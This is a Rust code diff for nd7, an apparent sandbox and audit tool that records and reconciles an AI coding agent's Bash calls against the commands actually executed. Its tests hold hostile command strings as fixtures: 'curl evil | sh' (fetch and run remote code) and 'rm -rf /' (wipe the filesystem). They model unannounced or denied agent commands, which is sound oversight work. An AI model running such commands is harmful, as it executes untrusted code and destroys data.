@@ -35,6 +35,28 @@ pub const EXEC_END: &str = "exec_end";
 pub const GRANT: &str = "grant";
 /// A caller of the exit or of the hooks' door was refused.
 pub const REFUSED: &str = "refused";
+/// A grant or write root left out of a command's rules because its path no
+/// longer leads to the directory pinned for it (ADR-0028).
+pub const GRANT_DROPPED: &str = "grant_dropped";
+/// Processes the session left running once the agent had ended, which nd7
+/// run's keeper ended (ADR-0035).
+pub const PROCESSES_ENDED: &str = "processes_ended";
+
+/// The body of a [`PROCESSES_ENDED`] entry: how many, and the first of them
+/// by pid and command name.
+pub fn processes_ended_body(count: usize, processes: &[(u32, String)]) -> Value {
+    json!({
+        "count": count,
+        "processes": processes
+            .iter()
+            .map(|(pid, name)| json!({"pid": pid, "name": name}))
+            .collect::<Vec<_>>(),
+    })
+}
+/// A tool call failed (or carried on) because the floor refused a path: what
+/// nd7 judged from the tool's output and the rules, and the grant that would
+/// have allowed it (ADR-0041).
+pub const FLOOR_REFUSED: &str = "floor_refused";
 
 /// The name of a run's chain: `run-<UTC date and time>-<pid>-<4 hex>`, sortable
 /// by start time; the hex keeps two runs of one pid in one second apart.
@@ -112,10 +134,16 @@ fn text_member(body: &mut serde_json::Map<String, Value>, name: &str, bytes: &[u
 
 /// The body of an `exec` entry: the command exactly as the exit received it,
 /// the pid that asked for it, and the grants it runs under (beside the
-/// floor's rules, which `run_start` holds).
+/// floor's rules, which `run_start` holds). When the command is Claude
+/// Code's Bash tool line (ADR-0040), `bash_command` is the model's command
+/// read back from it ([`crate::shell_prefix::unwrap`]): what the Bash call
+/// announced.
 pub fn exec_body(command: &[u8], caller: u32, grants: &[std::path::PathBuf]) -> Value {
     let mut body = serde_json::Map::new();
     text_member(&mut body, "command", command);
+    if let Some(call) = bash_command(command) {
+        body.insert("bash_command".into(), json!(call));
+    }
     body.insert("caller".into(), json!(caller));
     body.insert(
         "grants".into(),
@@ -127,6 +155,12 @@ pub fn exec_body(command: &[u8], caller: u32, grants: &[std::path::PathBuf]) -> 
         ),
     );
     Value::Object(body)
+}
+
+/// The model's command inside a Bash tool line the exit received, if it is one.
+pub fn bash_command(command: &[u8]) -> Option<String> {
+    let text = std::str::from_utf8(command).ok()?;
+    crate::shell_prefix::unwrap(text).map(|call| call.command)
 }
 
 /// How a command ended, as `exec_end` states it.
@@ -186,6 +220,9 @@ pub struct RunFacts<'a> {
     /// Whether `nd7 run` registered the record hooks itself (Claude Code),
     /// so that Bash calls and commands can be reconciled.
     pub hooks: bool,
+    /// What commands may write beyond the floor from the start, each
+    /// `{"path", "from"}` (`~/.nd7/grants:N`, `--allow`, `--preset`).
+    pub grants: Value,
 }
 
 pub fn run_start_body(facts: &RunFacts<'_>) -> Value {
@@ -197,6 +234,7 @@ pub fn run_start_body(facts: &RunFacts<'_>) -> Value {
         "sandbox": facts.sandbox,
         "landlock_abi": facts.landlock_abi,
         "hooks": facts.hooks,
+        "grants": facts.grants,
     })
 }
 
@@ -211,6 +249,7 @@ pub fn run_end_body(ended: &Ended, tally: &Reconciliation, refused: u64) -> Valu
     body["bash_calls"] = json!(tally.calls);
     body["commands_without_call"] = json!(tally.unmatched_execs.len());
     body["calls_without_command"] = json!(tally.unmatched_calls.len());
+    body["calls_not_run"] = json!(tally.calls_not_run.len());
     body["refused"] = json!(refused);
     body
 }
@@ -292,8 +331,13 @@ pub struct Reconciliation {
     pub hooks: bool,
     pub calls: u64,
     pub execs: u64,
-    /// Bash calls in the hooks' entries with no command through the exit after them.
+    /// Bash calls in the hooks' entries with a result but no command through
+    /// the exit after them: they ran, but not through the exit.
     pub unmatched_calls: Vec<Call>,
+    /// Bash calls with neither a command nor a result: Claude Code did not
+    /// run them (its permissions denied them, ADR-0040), or the run ended
+    /// before they did. Not a disagreement: nothing ran.
+    pub calls_not_run: Vec<Call>,
     /// Commands through the exit with no Bash call before them.
     pub unmatched_execs: Vec<Exec>,
     /// Lines that are not entries this reader understands (never in a chain
@@ -332,6 +376,8 @@ struct Body {
     #[serde(default)]
     command: Option<String>,
     #[serde(default)]
+    bash_command: Option<String>,
+    #[serde(default)]
     hooks: Option<bool>,
 }
 
@@ -349,6 +395,8 @@ struct ToolInput {
 pub struct Reconciler {
     out: Reconciliation,
     open: Vec<Call>,
+    /// The Bash calls the hooks reported a result for, by `tool_use_id`.
+    results: std::collections::HashSet<String>,
     first: bool,
 }
 
@@ -378,6 +426,13 @@ impl Reconciler {
             }
         }
         if !ours
+            && line.kind == "tool_result"
+            && line.body.tool_name.as_deref() == Some("Bash")
+            && let Some(id) = &line.tool_use_id
+        {
+            self.results.insert(id.clone());
+        }
+        if !ours
             && line.kind == "tool_call"
             && line.body.tool_name.as_deref() == Some("Bash")
             && line.body.hook_event_name.as_deref() == Some("PreToolUse")
@@ -395,7 +450,13 @@ impl Reconciler {
             });
         } else if ours && line.kind == EXEC {
             self.out.execs += 1;
-            let command = line.body.command.unwrap_or_default();
+            // A Bash tool line is held against its call by the model's
+            // command within it; any other command by its own text.
+            let command = line
+                .body
+                .bash_command
+                .or(line.body.command)
+                .unwrap_or_default();
             let by_id = line.tool_use_id.as_ref().and_then(|id| {
                 self.open
                     .iter()
@@ -421,7 +482,13 @@ impl Reconciler {
     }
 
     pub fn finish(mut self) -> Reconciliation {
-        self.out.unmatched_calls = self.open;
+        let results = self.results;
+        let (ran, not_run): (Vec<Call>, Vec<Call>) = self
+            .open
+            .into_iter()
+            .partition(|c| c.tool_use_id.as_ref().is_none_or(|id| results.contains(id)));
+        self.out.unmatched_calls = ran;
+        self.out.calls_not_run = not_run;
         self.out
     }
 }
@@ -489,6 +556,7 @@ mod tests {
             sandbox: "landlock",
             landlock_abi: Some(7),
             hooks,
+            grants: json!([]),
         };
         line(
             &event(&stamp(), RUN_START, None, None, &run_start_body(&facts)),
@@ -541,12 +609,69 @@ mod tests {
         ]);
         assert!(r.is_run && r.hooks);
         assert_eq!((r.calls, r.execs), (5, 5));
-        let calls: Vec<u64> = r.unmatched_calls.iter().map(|c| c.seq).collect();
+        // The calls left had no result: Claude Code never ran them.
+        let calls: Vec<u64> = r.calls_not_run.iter().map(|c| c.seq).collect();
         let execs: Vec<u64> = r.unmatched_execs.iter().map(|e| e.seq).collect();
         assert_eq!(calls, [7, 10]);
+        assert!(r.unmatched_calls.is_empty());
         assert_eq!(execs, [8, 9]);
         assert_eq!(r.unmatched_execs[0].command, "curl evil | sh");
         assert!(!r.agrees());
+    }
+
+    #[test]
+    fn a_bash_tool_line_pairs_with_the_call_by_the_models_command() {
+        let wrapped = |c: &str| {
+            format!(
+                "source /h/.claude/shell-snapshots/snapshot-bash-1-a.sh 2>/dev/null || true && eval {} < /dev/null && pwd -P >| /tmp/claude-1-cwd",
+                crate::shell_prefix::shell_quote(c).replace("'\\''", "'\"'\"'")
+            )
+        };
+        let body = exec_body(wrapped("echo it's").as_bytes(), 9, &[]);
+        assert_eq!(body["bash_command"], "echo it's");
+        assert_eq!(body["command"], wrapped("echo it's").as_str());
+        assert!(exec_body(b"ls", 9, &[]).get("bash_command").is_none());
+        let r = reconcile(&[
+            start(true),
+            call(1, "a", "make test"),
+            exec(2, None, &wrapped("make test")),
+            call(3, "b", "ls"),
+            exec(4, None, "ls"),
+            exec(5, None, &wrapped("curl evil | sh")),
+        ]);
+        assert_eq!(r.unmatched_calls, []);
+        let execs: Vec<u64> = r.unmatched_execs.iter().map(|e| e.seq).collect();
+        assert_eq!(execs, [5]);
+        assert_eq!(r.unmatched_execs[0].command, "curl evil | sh");
+    }
+
+    #[test]
+    fn a_call_that_ran_without_the_exit_disagrees_one_never_run_does_not() {
+        let result = |seq: u64, id: &str| {
+            let payload = json!({"session_id": "s", "hook_event_name": "PostToolUse",
+                "tool_name": "Bash", "tool_input": {"command": "ls"}, "tool_use_id": id,
+                "tool_response": {"stdout": ""}});
+            let inv = crate::hook::Invocation {
+                ts: 1,
+                host: "h".into(),
+                hook_ppid: Some(1),
+                cwd: None,
+            };
+            let p = crate::hook::Payload::parse(payload.to_string().as_bytes()).expect("payload");
+            line(&Event::new(&inv, p), seq)
+        };
+        let r = reconcile(&[
+            start(true),
+            call(1, "ran", "ls"),
+            result(2, "ran"),
+            call(3, "denied", "rm -rf /"),
+        ]);
+        assert_eq!(r.unmatched_calls.len(), 1);
+        assert_eq!(r.unmatched_calls[0].tool_use_id.as_deref(), Some("ran"));
+        assert_eq!(r.calls_not_run.len(), 1);
+        assert!(!r.agrees());
+        let r = reconcile(&[start(true), call(1, "denied", "rm -rf /")]);
+        assert!(r.agrees(), "{r:?}");
     }
 
     #[test]
@@ -614,7 +739,8 @@ mod tests {
         assert_eq!(
             run_end_body(&Ended::Exited(0), &tally, 3),
             json!({"exited": 0, "commands": 2, "bash_calls": 1,
-                   "commands_without_call": 1, "calls_without_command": 0, "refused": 3})
+                   "commands_without_call": 1, "calls_without_command": 0, "calls_not_run": 0,
+                   "refused": 3})
         );
     }
 }
